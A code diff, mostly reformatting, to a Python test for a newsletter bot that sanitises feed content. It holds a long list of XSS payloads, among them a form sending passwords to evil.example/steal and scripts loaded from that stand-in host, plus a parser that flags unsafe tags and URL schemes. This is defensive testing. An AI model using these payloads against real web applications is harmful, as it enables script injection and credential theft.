@@ -28,7 +28,7 @@ from bot.sink import Sink, SinkHandler
 from bot.subscribers import clean_fields, save
 from bot.tagging import load_rules
 from tests.conftest import ROOT
-from tests.test_dump_parser import render_dump
+from tests.helpers import render_dump
 
 RULES = load_rules(ROOT / "config" / "tags.toml")
 DAY = datetime(2026, 6, 14, 12, tzinfo=UTC)
@@ -43,65 +43,65 @@ PAYLOADS = [
     "<script/xss src=https://evil.example/x.js></script>",
     "<<script>alert(1);//<</script>",
     "<img src=x onerror=alert(1)>",
-    "<img src=\"javascript:alert(1)\">",
+    '<img src="javascript:alert(1)">',
     "<img src=https://tracker.example/pixel.gif>",
     "<IMG SRC=JaVaScRiPt:alert(1)>",
     "<img src=`javascript:alert(1)`>",
-    "<img \"\"\"><script>alert(1)</script>\">",
+    '<img """><script>alert(1)</script>">',
     "<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
     "<svg onload=alert(1)>",
     "<svg><script>alert(1)</script></svg>",
-    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
+    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
     "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
     "<body onload=alert(1)>",
-    "<body background=\"javascript:alert(1)\">",
-    "<iframe src=\"javascript:alert(1)\"></iframe>",
-    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
-    "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
-    "<object data=\"javascript:alert(1)\"></object>",
-    "<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
-    "<a href=\"javascript:alert(1)\">click</a>",
-    "<a href=\"JAVASCRIPT:alert(1)\">click</a>",
-    "<a href=\" javascript:alert(1)\">click</a>",
-    "<a href=\"jav&#x09;ascript:alert(1)\">click</a>",
-    "<a href=\"jav\tascript:alert(1)\">click</a>",
-    "<a href=\"&#106;avascript:alert(1)\">click</a>",
-    "<a href=\"vbscript:msgbox(1)\">click</a>",
-    "<a href=\"data:text/html,<script>alert(1)</script>\">click</a>",
-    "<a href=\"https://ok.example\" onclick=\"alert(1)\">click</a>",
-    "<a href=\"https://ok.example\" onmouseover=alert(1)>hover</a>",
-    "<a href=\"https://ok.example\" style=\"background:url(javascript:alert(1))\">s</a>",
-    "<a href=\"https://ok.example\" target=\"_blank\" formaction=\"javascript:alert(1)\">t</a>",
-    "<form action=\"https://evil.example/steal\"><input name=p type=password><button>go</button></form>",
-    "<input type=\"image\" src=\"javascript:alert(1)\">",
-    "<button formaction=\"javascript:alert(1)\">x</button>",
-    "<isindex action=\"javascript:alert(1)\" type=image>",
+    '<body background="javascript:alert(1)">',
+    '<iframe src="javascript:alert(1)"></iframe>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<frameset><frame src="javascript:alert(1)"></frameset>',
+    '<object data="javascript:alert(1)"></object>',
+    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
+    '<a href="javascript:alert(1)">click</a>',
+    '<a href="JAVASCRIPT:alert(1)">click</a>',
+    '<a href=" javascript:alert(1)">click</a>',
+    '<a href="jav&#x09;ascript:alert(1)">click</a>',
+    '<a href="jav\tascript:alert(1)">click</a>',
+    '<a href="&#106;avascript:alert(1)">click</a>',
+    '<a href="vbscript:msgbox(1)">click</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">click</a>',
+    '<a href="https://ok.example" onclick="alert(1)">click</a>',
+    '<a href="https://ok.example" onmouseover=alert(1)>hover</a>',
+    '<a href="https://ok.example" style="background:url(javascript:alert(1))">s</a>',
+    '<a href="https://ok.example" target="_blank" formaction="javascript:alert(1)">t</a>',
+    '<form action="https://evil.example/steal"><input name=p type=password><button>go</button></form>',
+    '<input type="image" src="javascript:alert(1)">',
+    '<button formaction="javascript:alert(1)">x</button>',
+    '<isindex action="javascript:alert(1)" type=image>',
     "<textarea autofocus onfocus=alert(1)>",
     "<details open ontoggle=alert(1)>",
     "<marquee onstart=alert(1)>",
-    "<video><source onerror=\"alert(1)\"></video>",
+    '<video><source onerror="alert(1)"></video>',
     "<audio src=x onerror=alert(1)>",
     "<style>@import 'https://evil.example/x.css';</style>",
-    "<style>body{background:url(\"javascript:alert(1)\")}</style>",
-    "<div style=\"width: expression(alert(1));\">x</div>",
-    "<p style=\"behavior: url(xss.htc);\">x</p>",
-    "<span style=\"background-image: url(https://tracker.example/p.gif)\">x</span>",
-    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
-    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
-    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
-    "<base href=\"https://evil.example/\">",
+    '<style>body{background:url("javascript:alert(1)")}</style>',
+    '<div style="width: expression(alert(1));">x</div>',
+    '<p style="behavior: url(xss.htc);">x</p>',
+    '<span style="background-image: url(https://tracker.example/p.gif)">x</span>',
+    '<link rel=stylesheet href="https://evil.example/x.css">',
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+    '<base href="https://evil.example/">',
     "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
-    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
+    '<!--<img src="--><img src=x onerror=alert(1)//">',
     "<![CDATA[<script>alert(1)</script>]]>",
-    "<xss:script xmlns:xss=\"http://www.w3.org/1999/xhtml\">alert(1)</xss:script>",
-    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
-    "<div onpointerover=\"alert(1)\">x</div>",
-    "<a href=\"#\" onfocus=\"alert(1)\" autofocus>x</a>",
+    '<xss:script xmlns:xss="http://www.w3.org/1999/xhtml">alert(1)</xss:script>',
+    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
+    '<div onpointerover="alert(1)">x</div>',
+    '<a href="#" onfocus="alert(1)" autofocus>x</a>',
     "<template><script>alert(1)</script></template>",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-    "<object type=\"text/x-scriptlet\" data=\"https://evil.example/x.sct\"></object>",
-    "<applet code=\"X.class\"></applet>",
-    "\"><script>alert(1)</script>",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>',
+    '<applet code="X.class"></applet>',
+    '"><script>alert(1)</script>',
     "'><img src=x onerror=alert(1)>",
     "</textarea><script>alert(1)</script>",
     "javascript:alert(1)",
@@ -113,7 +113,18 @@ PAYLOADS = [
 TEMPLATE_TAGS = {"html", "head", "meta", "title", "body", "div", "p", "a", "span", "h1", "h2"}
 SAFE_TAGS = TEMPLATE_TAGS | ALLOWED_TAGS
 SAFE_SCHEMES = {"http", "https", "mailto"}
-URL_ATTRIBUTES = {"href", "src", "action", "formaction", "background", "data", "srcdoc", "xlink:href", "poster", "srcset"}
+URL_ATTRIBUTES = {
+    "href",
+    "src",
+    "action",
+    "formaction",
+    "background",
+    "data",
+    "srcdoc",
+    "xlink:href",
+    "poster",
+    "srcset",
+}
 
 
 class Audit(HTMLParser):
@@ -140,7 +151,9 @@ class Audit(HTMLParser):
                 allowed = {"https"} if tag == "img" else SAFE_SCHEMES
                 if name not in {"href", "src"} or scheme not in allowed:
                     self.problems.append(f"<{tag} {name}={value!r}>")
-            if name == "style" and any(bad in value.lower() for bad in ("expression", "javascript", "url(", "@import", "behavior")):
+            if name == "style" and any(
+                bad in value.lower() for bad in ("expression", "javascript", "url(", "@import", "behavior")
+            ):
                 self.problems.append(f"<{tag} style={value!r}>")
 
     handle_startendtag = handle_starttag
@@ -194,15 +207,27 @@ def atom(payloads: list[str]) -> bytes:
 
 def json_feed(payloads: list[str]) -> bytes:
     items = [
-        {"id": f"json-{i}", "title": f"JSON {i} {p}", "url": p, "content_html": p, "tags": [p],
-         "authors": [{"name": p}], "date_published": "2026-06-14T08:00:00Z"}
+        {
+            "id": f"json-{i}",
+            "title": f"JSON {i} {p}",
+            "url": p,
+            "content_html": p,
+            "tags": [p],
+            "authors": [{"name": p}],
+            "date_published": "2026-06-14T08:00:00Z",
+        }
         for i, p in enumerate(payloads)
     ]
     return json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "evil json", "items": items}).encode()
 
 
 def dump(payloads: list[str]) -> bytes:
-    return render_dump([(f"Dump {i} {p}", [f"Author {p}"], date(2026, 6, 14), f"Summary {p} https://ok.example/{i}") for i, p in enumerate(payloads)]).encode()
+    return render_dump(
+        [
+            (f"Dump {i} {p}", [f"Author {p}"], date(2026, 6, 14), f"Summary {p} https://ok.example/{i}")
+            for i, p in enumerate(payloads)
+        ]
+    ).encode()
 
 
 @pytest.fixture
@@ -220,8 +245,12 @@ def deliver_everything(factory: sessionmaker[Session], tmp_path: Path, sink: Sin
         }
     )
     save(factory, settings, [clean_fields("reader@example.org", name="Reader")], DAY - timedelta(days=1))
-    for name, data in (("evil.rss", rss(PAYLOADS)), ("evil.atom", atom(PAYLOADS)), ("evil.json", json_feed(PAYLOADS)),
-                       ("evil.txt", dump(PAYLOADS))):
+    for name, data in (
+        ("evil.rss", rss(PAYLOADS)),
+        ("evil.atom", atom(PAYLOADS)),
+        ("evil.json", json_feed(PAYLOADS)),
+        ("evil.txt", dump(PAYLOADS)),
+    ):
         result = ingest_bytes(factory, data, name=name, now=DAY, rules=RULES)
         assert result.status.value == "ingested", result
     plan(factory, settings, RULES, now=DAY, all_due=True)
